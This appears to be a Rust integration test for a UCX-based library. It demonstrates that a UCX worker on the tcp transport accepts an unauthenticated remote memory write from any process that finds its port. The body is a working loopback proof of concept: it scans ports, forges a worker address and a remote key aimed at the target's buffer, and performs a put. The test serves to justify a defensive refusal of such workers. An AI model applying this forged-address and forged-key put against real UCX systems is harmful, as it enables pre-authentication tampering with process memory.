//! A process that never received a byte from a UCX worker writes into its memory: what it
//! needs is the worker's tcp port, which a port scan finds, and the layout of a worker
//! address, which its own UCX gives it. UCX's tcp transport accepts every connection, its
//! wire-up accepts an endpoint from a worker it never heard of, and its software put (UCX
//! 1.13's only put over tcp) copies to the address the message names. So a worker with tcp
//! in `UCX_TLS` is a pre-authentication write (and read) of its process's memory for every
//! host that reaches the port, and the engine refuses such a worker unless the fabric is
//! declared trusted (`kvbridge_ucx::reach`, docs/ucx.md "Who can reach a UCX worker"). The
//! test fails the day UCX refuses such a put: then that section is to be rewritten.
//!
//! The attacker here tries only the listening ports of this test process (its own, the
//! target's), not other processes' on the host.
#![cfg(feature = "ucx")]

mod common;

use common::{deadline, fnv, listening_ports, pattern, Target, SECRET_LEN};
use kvbridge_ucx::wire::{self, Kind, RegionDescriptor};
use kvbridge_ucx::{Context, ContextConfig, MemRegion, Worker};

/// Loopback only: one tcp interface, one port per worker.
fn loopback_tcp() -> ContextConfig {
    ContextConfig {
        tls: Some("tcp".into()),
        net_devices: Some("lo".into()),
    }
}

#[test]
fn a_process_that_knows_only_a_port_writes_into_unregistered_memory_over_tcp() {
    // The attacker's own workers: a decoy whose address it edits, one to attack from.
    let ctx = Context::new(&loopback_tcp()).expect("context");
    let before = listening_ports();
    let decoy = Worker::new(&ctx).expect("decoy worker");
    let decoy_ports: Vec<u16> = listening_ports().difference(&before).copied().collect();
    assert_eq!(
        decoy_ports.len(),
        1,
        "one tcp interface, one port: {decoy_ports:?}"
    );
    let mut me = Worker::new(&ctx).expect("attacking worker");
    let known = listening_ports();

    let mut target = Target::thread_with(loopback_tcp());
    let scanned: Vec<u16> = listening_ports().difference(&known).copied().collect();
    assert!(!scanned.is_empty(), "the target listens on a port");

    // Where the decoy's port sits in its address: the attacker's template.
    let template = wire::open(Kind::WorkerAddress, decoy.address())
        .unwrap()
        .to_vec();
    let at: Vec<usize> = template
        .windows(2)
        .enumerate()
        .filter(|(_, w)| *w == decoy_ports[0].to_be_bytes())
        .map(|(i, _)| i)
        .collect();
    assert_eq!(at.len(), 1, "the decoy's port appears once in its address");

    let answer = target.ask("SECRET");
    let w: Vec<&str> = answer.split_whitespace().collect();
    let (addr, sum_before): (u64, u64) = (w[1].parse().unwrap(), w[2].parse().unwrap());
    // A key of the attacker's own memory, pointed at the target's: the address is a guess
    // for a real attacker (or read first, the same way); here the target tells it.
    let local = MemRegion::alloc(&ctx, SECRET_LEN).unwrap();
    let mut forged = RegionDescriptor::decode(&local.descriptor().unwrap()).unwrap();
    forged.base = addr;
    forged.len = SECRET_LEN as u64;
    local.write(0, &pattern(77, SECRET_LEN)).unwrap();

    let mut written = false;
    for port in scanned {
        let mut address = template.clone();
        address[at[0]..at[0] + 2].copy_from_slice(&port.to_be_bytes());
        // A worker id nobody has: the attacker does not know the target's.
        for b in &mut address[1..9] {
            *b ^= 0x5a;
        }
        let Ok(ep) = me.connect("scanned", &wire::seal(Kind::WorkerAddress, &address)) else {
            continue;
        };
        let Ok(key) = me.unpack_rkey(ep, &forged.encode()) else {
            continue;
        };
        let put = me.put(key, 0, &local, 0, SECRET_LEN, deadline(5));
        let flush = me.flush(ep, deadline(5));
        eprintln!("port {port}: put {put:?}, flush {flush:?}");
        let after = target.ask("SECRET");
        let sum: u64 = after.split_whitespace().nth(2).unwrap().parse().unwrap();
        written |= sum != sum_before;
    }
    assert!(
        written,
        "no port scanned led into the target's memory: UCX refused the unauthenticated put"
    );
    let after = target.ask("SECRET");
    let sum: u64 = after.split_whitespace().nth(2).unwrap().parse().unwrap();
    assert_eq!(sum, fnv(&pattern(77, SECRET_LEN)));
}
